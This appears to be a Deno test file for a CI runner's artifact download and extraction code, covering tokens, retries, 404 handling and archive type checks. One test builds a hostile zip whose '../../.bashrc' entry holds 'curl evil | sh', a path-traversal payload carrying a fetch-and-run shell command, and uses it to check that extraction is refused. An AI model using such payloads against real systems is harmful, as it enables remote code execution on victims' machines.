import assert from "node:assert/strict";
import { craftZip } from "../archive/crafted_zip.ts";
import { MemoryTree } from "../archive/memory_tree.ts";
import { BytesReader, type RandomAccessReader } from "../archive/random_access_reader.ts";
import { JobFailedError } from "../job/failure_reason.ts";
import type { JobDependency } from "../job/job_spec.ts";
import type {
  ArtifactDownloader,
  ArtifactDownloadRequest,
  ArtifactDownloadResult,
} from "./artifact_downloader.ts";
import { downloadArtifacts } from "./download_artifacts.ts";
import type { ScratchFile, ScratchSpace } from "./scratch_space.ts";

class MemoryScratch implements ScratchSpace {
  live = 0;
  create(): Promise<ScratchFile> {
    this.live++;
    let bytes = new Uint8Array(0);
    return Promise.resolve({
      write: async (body: ReadableStream<Uint8Array>) => {
        bytes = new Uint8Array(await new Response(body).arrayBuffer());
        return bytes.length;
      },
      open: (): Promise<RandomAccessReader> => Promise.resolve(new BytesReader(bytes)),
      remove: () => {
        this.live--;
        return Promise.resolve();
      },
    });
  }
}

type Answer = ArtifactDownloadResult | "broken-stream";

class FakeDownloader implements ArtifactDownloader {
  requests: ArtifactDownloadRequest[] = [];
  constructor(readonly answers: Answer[], readonly archive: Uint8Array) {}
  download(request: ArtifactDownloadRequest): Promise<ArtifactDownloadResult> {
    this.requests.push(request);
    const answer = this.answers.shift() ??
      {
        kind: "ok",
        status: "200 OK",
        body: new Blob([this.archive as Uint8Array<ArrayBuffer>]).stream(),
      };
    if (answer === "broken-stream") {
      return Promise.resolve({
        kind: "ok",
        status: "200 OK",
        body: new ReadableStream({ pull: (c) => c.error(new Error("connection reset")) }),
      });
    }
    return Promise.resolve(answer);
  }
}

const dep = (id: number, filename = "artifacts.zip"): JobDependency => ({
  id,
  token: `token-${id}`,
  name: `build-${id}`,
  artifactsFile: { filename, size: 10 },
});

function download(deps: JobDependency[], downloader: FakeDownloader, attempts = 1) {
  const lines: string[] = [];
  const sleeps: number[] = [];
  const target = new MemoryTree();
  const scratch = new MemoryScratch();
  const run = downloadArtifacts({
    dependencies: deps,
    downloader,
    target,
    scratch,
    directDownload: true,
    attempts,
    log: (l) => lines.push(l),
    sleep: (ms) => {
      sleeps.push(ms);
      return Promise.resolve();
    },
    signal: new AbortController().signal,
  });
  return { run, lines, sleeps, target, scratch };
}

const GOOD = craftZip([{ name: "dist/", kind: "dir" }, {
  name: "dist/app.js",
  content: "console.log(1)",
}]);

Deno.test("dependencies download with their own token and extract into the project", async () => {
  const downloader = new FakeDownloader([], GOOD);
  const { run, lines, target, scratch } = await download([dep(7), dep(8, "")], downloader);
  await run;
  assert.deepEqual(downloader.requests, [{ jobId: 7, jobToken: "token-7", directDownload: true }]);
  assert.equal(target.text("dist/app.js"), "console.log(1)");
  assert.deepEqual(lines, [
    "Downloading artifacts for build-7 (7)...",
    "Downloading artifacts from coordinator... ok  id=7 responseStatus=200 OK",
  ]);
  assert.equal(scratch.live, 0);
});

Deno.test("failed tries repeat 3 times, 1 s apart, asking for direct download only first", async () => {
  const downloader = new FakeDownloader([
    { kind: "failed", status: "502 Bad Gateway" },
    "broken-stream",
  ], GOOD);
  const { run, sleeps, target } = await download([dep(7)], downloader);
  await run;
  assert.deepEqual(downloader.requests.map((r) => r.directDownload), [true, false, false]);
  assert.deepEqual(sleeps, [1000, 1000]);
  assert.equal(target.text("dist/app.js"), "console.log(1)");
});

Deno.test("404 is not retried and fails the stage; ARTIFACT_DOWNLOAD_ATTEMPTS repeats the stage", async () => {
  const notFound = (): Answer => ({ kind: "not_found", status: "404 Not Found" });
  const once = new FakeDownloader([notFound()], GOOD);
  await assert.rejects((await download([dep(7)], once)).run, (err: unknown) => {
    assert.ok(err instanceof JobFailedError);
    assert.match(err.message, /no artifacts were found \(404 Not Found\)/);
    return true;
  });
  assert.equal(once.requests.length, 1);

  const twice = new FakeDownloader([notFound()], GOOD);
  const { run, lines, sleeps } = await download([dep(7)], twice, 2);
  await run;
  assert.equal(twice.requests.length, 2);
  assert.deepEqual(sleeps, [5000]);
  assert.ok(lines.includes("WARNING: Retrying artifact download for build-7 (attempt 2/2)..."));
});

Deno.test("a hostile artifacts archive fails the job with the entry named, and writes nothing", async () => {
  const evil = craftZip([{ name: "../../.bashrc", content: "curl evil | sh" }]);
  const { run, lines, target } = await download([dep(9)], new FakeDownloader([], evil), 3);
  await assert.rejects(run, (err: unknown) => {
    assert.ok(err instanceof JobFailedError);
    assert.match(
      err.message,
      /Extracting artifacts of build-9 \(9\) failed: Entry "\.\.\/\.\.\/\.bashrc" has a "\.\." segment/,
    );
    return true;
  });
  assert.ok(lines.some((l) => l.startsWith('ERROR: Entry "../../.bashrc"')));
  assert.deepEqual([...target.nodes.keys()], [""]);
});

Deno.test("a non-zip download is refused by its magic bytes", async () => {
  const gzip = new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  await assert.rejects(
    (await download([dep(3)], new FakeDownloader([], gzip))).run,
    /are a gzip archive; only zip archives can be extracted/,
  );
});
